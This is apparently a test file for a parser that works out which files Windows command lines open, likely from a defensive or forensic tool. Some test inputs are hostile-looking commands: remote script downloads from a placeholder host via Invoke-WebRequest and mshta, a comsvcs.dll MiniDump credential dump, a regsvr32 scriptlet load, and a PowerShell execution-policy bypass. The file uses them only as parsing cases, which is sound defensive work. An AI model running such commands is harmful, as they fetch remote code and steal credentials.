import { describe, expect, it } from 'vitest'
import {
  argumentsOf,
  programOf,
  splitCommandLine,
  toAbsolute,
} from '../../../core/correlation/command-line.ts'
import { openedFiles } from '../../../core/correlation/opened-files.ts'

const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const system = (name: string) => `C:\\Windows\\System32\\${name}`

describe('openedFiles', () => {
  it.each([
    [
      WORD,
      `"${WORD}" /n "C:\\Users\\amber\\AppData\\Local\\x\\Rechnung März.docm" /o ""`,
      ['C:\\Users\\amber\\AppData\\Local\\x\\Rechnung März.docm'],
    ],
    [WORD, `"${WORD}" /n C:\\Users\\amber\\My files\\a b.docx /o`, ['C:\\Users\\amber\\My files\\a b.docx']],
    [WORD, `"${WORD}" /Automation -Embedding`, []],
    [
      system('wscript.exe'),
      'wscript.exe "C:\\Users\\amber\\Downloads\\a.js" //B',
      ['C:\\Users\\amber\\Downloads\\a.js'],
    ],
    [POWERSHELL, 'powershell -ep bypass -File C:\\Temp\\x.ps1 -Out C:\\Temp\\y.txt', ['C:\\Temp\\x.ps1']],
    [
      POWERSHELL,
      `powershell -c "& 'C:\\Users\\a b\\x.ps1' -Force; Copy-Item C:\\q.docx D:\\"`,
      ['C:\\Users\\a b\\x.ps1'],
    ],
    [POWERSHELL, 'powershell Invoke-WebRequest -Uri https://e.example/a -OutFile C:\\ProgramData\\a.ps1', []],
    [system('rundll32.exe'), 'rundll32.exe C:\\Users\\Public\\q.dat,Start', ['C:\\Users\\Public\\q.dat']],
    [
      system('rundll32.exe'),
      '"C:\\Windows\\System32\\rundll32.exe" "C:\\Users\\Public\\my lib.dll",#1',
      ['C:\\Users\\Public\\my lib.dll'],
    ],
    [
      system('rundll32.exe'),
      "rundll32.exe '\\\\\\\\192.0.2.1\\\\share\\\\a.dll,0'",
      ['\\\\192.0.2.1\\share\\a.dll'],
    ],
    [
      system('rundll32.exe'),
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 628 C:\\Users\\Public\\a.bin full',
      ['C:\\Windows\\System32\\comsvcs.dll'],
    ],
    [system('regsvr32.exe'), 'regsvr32 /s /n /i:C:\\t\\a.sct scrobj.dll', ['C:\\t\\a.sct']],
    [system('msiexec.exe'), 'msiexec.exe /i C:\\Deploy\\agent-4.2.msi /qn', ['C:\\Deploy\\agent-4.2.msi']],
    [system('cmd.exe'), 'cmd.exe /c "C:\\Users\\amber\\run me.bat"', ['C:\\Users\\amber\\run me.bat']],
    [system('cmd.exe'), 'cmd.exe /c copy C:\\a.docx C:\\b.docx', []],
    [system('cmd.exe'), 'cmd /c start "" "C:\\Users\\amber\\a.lnk"', ['C:\\Users\\amber\\a.lnk']],
    [system('mshta.exe'), 'mshta.exe https://e.example/a.hta', []],
    [system('schtasks.exe'), 'schtasks /create /tn x /tr C:\\ProgramData\\a.exe', []],
    [
      'C:\\Program Files\\Microsoft\\Edge\\Application\\msedge.exe',
      '"msedge.exe" --single-argument file:///C:/Users/amber/a%20b.html?x#y',
      ['C:\\Users\\amber\\a b.html'],
    ],
    [
      'C:\\Program Files\\Reader\\reader.exe',
      '"C:\\Program Files\\Reader\\reader.exe" "C:\\Users\\amber\\a.pdf"',
      ['C:\\Users\\amber\\a.pdf'],
    ],
    ['C:\\Tools\\convert.exe', 'convert.exe C:\\a.docx C:\\b.pdf', []],
  ])('%s: %s', (image, commandLine, paths) => {
    expect(openedFiles(image, commandLine).map((file) => file.path)).toEqual(paths)
  })

  it('takes relative names from the current directory, and not without one', () => {
    expect(
      openedFiles(system('cscript.exe'), 'cscript ..\\a.vbs', 'C:\\Users\\amber\\x\\').map(
        (file) => file.path,
      ),
    ).toEqual(['C:\\Users\\amber\\a.vbs'])
    expect(openedFiles(system('cscript.exe'), 'cscript a.vbs')).toEqual([])
  })

  it('tells programs that are known to open files from a guess by shape', () => {
    expect(openedFiles(WORD, 'winword C:\\a.docx')[0]?.isKnown).toBe(true)
    expect(openedFiles('C:\\x\\view.exe', 'view C:\\a.docx')[0]?.isKnown).toBe(false)
  })
})

describe('splitCommandLine', () => {
  it('groups by quotes, keeps empty arguments and survives an unclosed quote', () => {
    expect(splitCommandLine('a "b c" "" d"e f" "g h').map((arg) => arg.text)).toEqual([
      'a',
      'b c',
      '',
      'de f',
      'g h',
    ])
  })
  it('does not take the backslash before a closing quote for an escape', () => {
    expect(splitCommandLine('x "C:\\a b\\" y').map((arg) => arg.text)).toEqual(['x', 'C:\\a b\\', 'y'])
  })
  it('keeps escaped quotes inside an argument', () => {
    expect(splitCommandLine('x "& \\"C:\\a b.ps1\\"" y').map((arg) => arg.text)).toEqual([
      'x',
      '& "C:\\a b.ps1"',
      'y',
    ])
  })
  it('is linear on hostile input', () => {
    expect(splitCommandLine('"\\'.repeat(100_000)).length).toBeGreaterThan(0)
    expect(argumentsOf(`a ${'C:\\x '.repeat(50_000)}`).length).toBeGreaterThan(0)
  })
})

describe('programOf', () => {
  it.each([
    ['%SystemRoot%\\hpsvc.exe', 'C:\\Windows\\hpsvc.exe'],
    ['"C:\\Program Files\\a b\\c.exe" -k run', 'C:\\Program Files\\a b\\c.exe'],
    ['C:\\Program Files\\a b\\c.exe -k run', 'C:\\Program Files\\a b\\c.exe'],
    ['\\SystemRoot\\System32\\drivers\\x.sys', 'C:\\Windows\\System32\\drivers\\x.sys'],
    ['system32\\drivers\\x.sys', 'C:\\Windows\\System32\\drivers\\x.sys'],
    ['%COMSPEC% /c echo', undefined],
  ])('%s', (command, program) => {
    expect(programOf(command)).toBe(program)
  })
})

describe('toAbsolute', () => {
  it.each(['https://e.example/a.js', '-enc', 'C:', 'a|b.js', ''])('refuses %s', (text) => {
    expect(toAbsolute(text, 'C:\\x')).toBeUndefined()
  })
})
